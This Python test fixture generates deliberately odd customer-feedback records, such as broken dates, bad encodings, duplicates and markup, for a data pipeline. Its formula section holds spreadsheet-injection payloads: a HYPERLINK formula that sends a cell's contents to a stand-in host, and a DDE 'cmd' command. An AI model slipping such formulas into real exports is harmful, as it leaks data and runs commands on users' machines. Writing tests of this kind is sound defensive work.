"""What is bad on purpose: records and lines that real exports hold and that must not stop a night.

Each is described, with its expected outcome, in README.md.
"""

from datetime import datetime
from itertools import cycle, islice

from written import Item, Turn

LONG_SENTENCES = (
    "I will set this down in order, because nobody on your side seems to keep a note of anything.",
    "The first man said Tuesday, and on Tuesday I moved the piano so that he could get at the socket.",
    "He did not come, and the piano is still in the hall.",
    "My sister-in-law, who has opinions, says I should have stayed with the old company.",
    "I rang at ten past nine and was told the diary was full until the lambing is over.",
    "It was not explained what the lambing has to do with the wires.",
    "The second man came without a ladder, and our box is at the top of the pole.",
    "He had a biscuit and was very pleasant and went away again.",
    "Since then the light on the hub has been amber on weekdays and red on Sundays.",
    "I keep a diary of it, which my grandson has put on the computer for me.",
    "The choir cannot send me the sheet music, and I am second alto and cannot guess it.",
    "A lady called Petronella promised to ring back by Friday noon.",
    "She did ring, but it was about whether I was happy with my call.",
    "I said I was happy with the call and not with the line, and she put me down as a nine.",
    "I should like the nine to be struck out.",
    "On the Wednesday there was a van in the lane for four hours with nobody in it.",
    "The postman thinks it was yours.",
    "I have had three text messages saying that the work is complete.",
    "I enclose a drawing of the socket, which shows that it is not.",
    "If somebody would simply read this to the end, I think it could be mended in ten minutes.",
)
LONG_CHARACTERS = 26_000


def bad_items(by_id: dict[str, Item]) -> list[Item]:
    """Records of a sound form whose content is odd."""
    return [*_markup_and_length(), *_hollow(), *_foreign(), *_said_again(by_id), *_formulas()]


def _item(number: int, feed: str, at: str, text: str, score: int | None = None) -> Item:
    return Item(feed, f"p-{number:03d}", datetime.fromisoformat(at), text, score=score)


def _markup_and_length() -> list[Item]:
    html = (
        "<html><head><style>p{color:red}</style></head><body><p>Hello,</p><p>your e-mail says my new hub comes "
        "<b>Monday</b>, the web page says Thursday &amp; the driver says never. Which is it?</p>"
        "<script>document.title='x'</script><p>Thank you,<br>Lettice&nbsp;Marr</p></body></html>"
    )
    div = "<div><div>Could you send me last year&#39;s bills on paper? My printer wants &pound;40 of ink.</div></div>"
    sentences = islice(cycle(LONG_SENTENCES), 400)
    days = (f"Day {day}. {sentence}" for day, sentence in enumerate(sentences, 1))
    text = " ".join(days)
    return [
        _item(1, "tickets", "2026-03-19T09:12", html),
        _item(2, "tickets", "2026-04-08T16:40", div),
        _item(3, "tickets", "2026-05-12T21:55", text[: text.index(" ", LONG_CHARACTERS)]),
    ]


def _hollow() -> list[Item]:
    return [
        _item(10, "csat", "2026-03-20T12:00", "", 4),
        _item(11, "csat", "2026-04-14T12:05", "   ", 2),
        _item(12, "csat", "2026-05-14T12:10", "\n\t", 5),
        _item(13, "nps", "2026-04-22T08:15", "", 9),
        _item(14, "app_reviews", "2026-04-24T08:00", "\U0001f525\U0001f525\U0001f525\U0001f44d", 5),
        _item(15, "social", "2026-05-02T22:14", "\U0001f621\U0001f621\U0001f4e6\U0001f937"),
    ]


def _foreign() -> list[Item]:
    return [
        _item(
            20,
            "nps",
            "2026-03-26T10:01",
            "Mae'r signal yn wych ar ben y mynydd ond does dim byd yn y gegin gartref.",
            7,
        ),
        _item(
            21,
            "nps",
            "2026-04-09T18:44",
            "El técnico llegó puntual y dejó todo funcionando antes de comer, gracias.",
            10,
        ),
        _item(
            22, "nps", "2026-05-03T19:33", "Paczka miała być w środę, jest niedziela i nikt nie odbiera telefonu.", 2
        ),
        _item(
            23, "social", "2026-05-08T13:20", "@Tarnlink seit gestern Abend kein Internet mehr, wann geht es wieder?"
        ),
    ]


def _said_again(by_id: dict[str, Item]) -> list[Item]:
    """Retweets, a copied review and one that was edited by a word or two."""
    spread = [by_id[f"w4-{number:03d}"] for number in (3, 45, 69, 37)]
    retweets = [
        _item(30 + place, "social", f"{item.at.date()}T23:{10 + place}", f"RT @coastwatch_{place}: {item.text}")
        for place, item in enumerate(spread)
    ]
    review = by_id["w2-188"]
    copied = _item(36, "product_reviews", "2026-03-06T08:00", review.text, review.score)
    edited = _item(37, "product_reviews", "2026-03-07T08:00", f"{review.text} Edit: still good", review.score)
    return [*retweets, copied, edited]


def _formulas() -> list[Item]:
    cell = '=HYPERLINK("http://example.com/?leak="&A1,"Click for the customer\'s photo")'
    return [
        _item(40, "frontline", "2026-05-09T15:00", cell),
        _item(43, "frontline", "2026-05-09T15:20", f"'{cell}"),
        _item(
            41,
            "product_reviews",
            "2026-04-11T09:30",
            "=cmd|' /C calc'!A0 is what the box printed on my phone screen",
            2,
        ),
        _item(
            42,
            "nps",
            "2026-05-11T09:31",
            "+44 stars if I could, the lad from Wexholt shop carried the telly stand up too",
            10,
        ),
    ]


def thread_copies() -> list[Item]:
    """Two chats that carry one id and different words: the second cannot be trusted."""
    told = ("my sim wont read, new phone", "how do I top up my daughters phone from abroad")
    return [
        Item("chats", "p-050", datetime(2026, 5, 9, 17, 2 + place), "", turns=(Turn("customer", words),))
        for place, words in enumerate(told)
    ]


NPS_ROWS = (  # id, date, score, reason: dates that are none, scores off the scale
    ("NPS-9060", "31/02/2026 10:04", "6", "the hold music made my dog sing, that's my six"),
    ("NPS-9061", "yesterday teatime", "8", "good enough, bit dear"),
    ("NPS-9062", "05-2026", "3", "booked a slot and got a different slot"),
    ("NPS-9063", "14/05/2062 09:00", "9", "written from the future by the look of your clock"),
    ("NPS-9064", "12/05/2026 11:20", "11", "one better than ten, like the amplifier"),
    ("NPS-9065", "12/05/2026 11:25", "-3", "minus three, same as my signal bars"),
)
NPS_WRONG_ENCODING = "NPS-9066,13/05/2026 20:15,,4,charged \u00a33 for a letter I could have read on line,,".encode(
    "latin-1"
)
NPS_NUL = b"NPS-9067,13/05/2026 20:40,,7,happy with the hub but the b\x00ox was taped shut like a mummy,,"
CALL_TOO_MANY_CELLS = "CL-9070;14/05/2026 10:02:00;;;Inbound 2;cx wants; a semicolon; in his name; honest"
SOCIAL_HALF_LINE = b'{"id": "SOC-9080", "created": 1778960000, "text": "@Tarnlink the kids have gone outsi'
REVIEW_LATER_EDIT = (
    "PR-9091",
    "5 stars after a fortnight: the hub runs cool now that I took it out of the bread bin.",
    5,
)
REVIEW_FIRST = ("PR-9091", "Runs hot. Like a toaster. Two stars until someone tells me why it smells of crumbs.", 2)
DOUBLE_EXPORT_TICKETS = 12
